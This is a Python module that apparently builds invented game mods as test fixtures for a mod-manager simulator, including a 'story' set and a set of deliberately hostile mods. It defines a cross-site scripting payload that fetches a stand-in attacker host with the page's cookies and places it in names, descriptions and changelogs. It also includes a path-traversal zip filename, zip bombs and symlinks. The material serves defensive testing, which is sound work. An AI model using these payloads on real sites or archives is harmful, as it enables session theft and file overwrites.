"""The invented mods of the stand-in. They are the same each time."""

import itertools
import random
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from enum import StrEnum

from gameserver_simulator.stand_ins import game_versions

START = datetime(2024, 1, 6, 10, 0, tzinfo=UTC)
TAGS = ("QoL", "Crafting", "Creatures", "Food", "Furniture", "Library", "Utility", "Worldgen")
AUTHORS = ("Ansgar", "Brynja", "Callum", "Daria", "Esko", "Fenja", "Gorm", "Hild")
ADJECTIVES = """
    Ancient Better Bright Copper Cosy Deep Dusty Expanded Foggy Gentle Hardy Iron Mossy
    Northern Painted Quiet Rustic Salty Tidy Wild
""".split()  # noqa: SIM905 - fifty lines otherwise
NOUNS = """
    Anvils Barrels Beehives Boats Butchery Candles Carts Caves Chests Crops Foxes Gardens
    Kilns Torches Looms Maps Orchards Pottery Quarries Rafts Ruins Saddles Salt Seasons
    Sheep Shelves Smelters Stoves Trails Wells Windmills Wolves
""".split()  # noqa: SIM905 - fifty lines otherwise
SCRIPT = "<script>fetch('https://evil.example/'+document.cookie)</script>"


class Kind(StrEnum):
    """The content of a release's file."""

    SOUND = "sound"
    LENIENT = "lenient"
    HANGS = "hangs"
    CRASHES = "crashes"
    OTHER_ID = "other_id"
    OTHER_VERSION = "other_version"
    NO_MODINFO = "no_modinfo"
    NESTED_MODINFO = "nested_modinfo"
    NO_ZIP = "no_zip"
    SLIP = "slip"
    SYMLINK = "symlink"
    BOMB = "bomb"
    OVERSIZED = "oversized"
    HUGE_MODINFO = "huge_modinfo"
    REDIRECTS_AWAY = "redirects_away"


@dataclass(frozen=True, kw_only=True)
class Release:
    """A release of a mod: one file."""

    number: int
    identifier: str
    version: str
    game_versions: tuple[str, ...]
    created: datetime
    filename: str = ""
    changelog: str = "<p>Fixes.</p>"
    dependencies: dict[str, str] = field(default_factory=dict)
    kind: Kind = Kind.SOUND
    retracted: bool = False


@dataclass(frozen=True, kw_only=True)
class Mod:
    """A mod with its releases, newest first."""

    number: int
    name: str
    author: str
    releases: tuple[Release, ...]
    identifiers: tuple[str, ...]
    summary: str = ""
    text: str = ""
    side: str = "both"
    type: str = "mod"
    tags: tuple[str, ...] = ("QoL",)
    downloads: int = 100

    @property
    def asset(self) -> int:
        """The asset number, by which pages and comments refer to the mod."""
        return 30_000 + self.number

    @property
    def published(self) -> list[Release]:
        """Releases that weren't retracted, newest first."""
        return [release for release in self.releases if not release.retracted]


@dataclass(frozen=True, kw_only=True)
class Draft:
    """A mod without numbers; `releases` are versions with their game versions."""

    identifier: str
    name: str = ""
    releases: tuple[tuple[str, tuple[str, ...]], ...] = (("1.0.0", game_versions.STABLE),)
    dependencies: dict[str, str] = field(default_factory=dict)
    kind: Kind = Kind.SOUND
    filename: str = ""
    text: str = ""
    side: str = "both"
    type: str = "mod"
    tags: tuple[str, ...] = ("QoL",)
    retracted: frozenset[str] = frozenset()


OLD, CURRENT, LATEST = ("1.20.11", "1.20.12"), ("1.21.4", "1.21.5", "1.21.6"), ("1.22.0-pre.1",)

STORY = (
    Draft(
        identifier="lanternlib",
        name="Lantern Library",
        releases=(("1.0.0", OLD), ("1.4.0", CURRENT), ("3.0.0", LATEST)),
        tags=("Library",),
    ),
    Draft(
        identifier="brightlanterns",
        name="Bright Lanterns",
        releases=(("1.0.0", OLD), ("1.1.0", CURRENT), ("1.2.0", CURRENT)),
        dependencies={"game": "1.20.0", "lanternlib": "1.0.0"},
        text=f"<h2>Light</h2><p>Brighter <b>lanterns</b>.</p>{SCRIPT}",
    ),
    Draft(
        identifier="deeplanterns",
        name="Deep Lanterns (needs a library that isn't made for this game)",
        dependencies={"lanternlib": "3.0.0"},
        releases=(("1.0.0", CURRENT),),
    ),
    Draft(
        identifier="lonelybees",
        name="Lonely Bees (needs a library that nobody published)",
        dependencies={"neverpublished": "1.0.0"},
    ),
    Draft(identifier="stuckgears", name="Stuck Gears (the game never starts)", kind=Kind.HANGS),
    Draft(identifier="brittlegears", name="Brittle Gears (the game crashes)", kind=Kind.CRASHES),
    Draft(
        identifier="cosyhearth",
        name="Cosy Hearth",
        releases=(("1.0.0", CURRENT), ("1.0.1", CURRENT)),
        kind=Kind.LENIENT,
        retracted=frozenset({"1.0.1"}),
    ),
    Draft(identifier="softskies", name="Soft Skies", side="client"),
    Draft(identifier="mapexporter", name="Map Exporter", type="externaltool"),
    Draft(identifier="VSInstruments_QuackPack", name="Instruments: Quackpack"),
)
"""Mods with dependencies, and mods that break the game."""

HARMLESS = {Kind.SOUND, Kind.LENIENT, Kind.HANGS, Kind.CRASHES}
HOSTILE = (
    *(Draft(identifier=kind.replace("_", ""), kind=kind) for kind in Kind if kind not in HARMLESS),
    Draft(identifier="badname", filename="../../../evil.zip"),
    Draft(identifier="takenname", filename="brightlanterns_1.2.0.zip"),
    Draft(identifier="scripted", name=f"Scripted {SCRIPT}", text=f"<p>{SCRIPT}</p>"),
)
"""Mods that attack; their ids are their kinds without the underscore."""


def invent(count: int, *, hostile: bool = False, seed: int = 1) -> list[Mod]:
    """Return the story's mods, the hostile ones if asked for, and `count` others."""
    numbers = itertools.count(1)
    drafts = [*STORY, *(HOSTILE if hostile else ()), *_drafts(count, seed)]
    dice = random.Random(seed)  # noqa: S311 - the same mods each time
    return [_mod(place + 1, draft, numbers, dice) for place, draft in enumerate(drafts)]


def _drafts(count: int, seed: int) -> list[Draft]:
    dice = random.Random(seed)  # noqa: S311 - the same mods each time
    drafts = []
    for place in range(count):
        round_, rest = divmod(place, len(ADJECTIVES) * len(NOUNS))
        words = f"{ADJECTIVES[rest % len(ADJECTIVES)]} {NOUNS[rest // len(ADJECTIVES)]}"
        name = f"{words} {round_ + 1}" if round_ else words
        drafts.append(
            Draft(
                identifier=name.replace(" ", "").lower(),
                name=name,
                releases=tuple(
                    (f"1.{minor}.{dice.randrange(5)}", tuple(dice.sample(game_versions.STABLE, 3)))
                    for minor in range(dice.randint(1, 4))
                ),
                tags=tuple(dice.sample(TAGS, 2)),
            )
        )
    return drafts


def _mod(number: int, draft: Draft, numbers: "itertools.count[int]", dice: random.Random) -> Mod:
    name = draft.name or draft.identifier.title()
    created = START + timedelta(hours=dice.randrange(15_000))
    releases = [
        _release(draft, place, next(numbers), created + timedelta(days=9 * place))
        for place in range(len(draft.releases))
    ]
    return Mod(
        number=number,
        name=name,
        author=dice.choice(AUTHORS),
        releases=tuple(reversed(releases)),
        identifiers=(draft.identifier,) if draft.type == "mod" else (),
        summary=f"{name}: an invented mod of the stand-in.",
        text=draft.text or f"<p>{name} is <em>invented</em>.</p>",
        side=draft.side,
        type=draft.type,
        tags=draft.tags,
        downloads=dice.randrange(50_000),
    )


def _release(draft: Draft, place: int, number: int, created: datetime) -> Release:
    version, versions = draft.releases[place]
    return Release(
        number=number,
        identifier=draft.identifier,
        version=version,
        game_versions=versions,
        created=created,
        filename=draft.filename or f"{draft.identifier}_{version}.zip",
        changelog=f"<ul><li>Version {version}</li></ul>" + (SCRIPT if draft.text else ""),
        dependencies=draft.dependencies,
        kind=draft.kind,
        retracted=version in draft.retracted,
    )
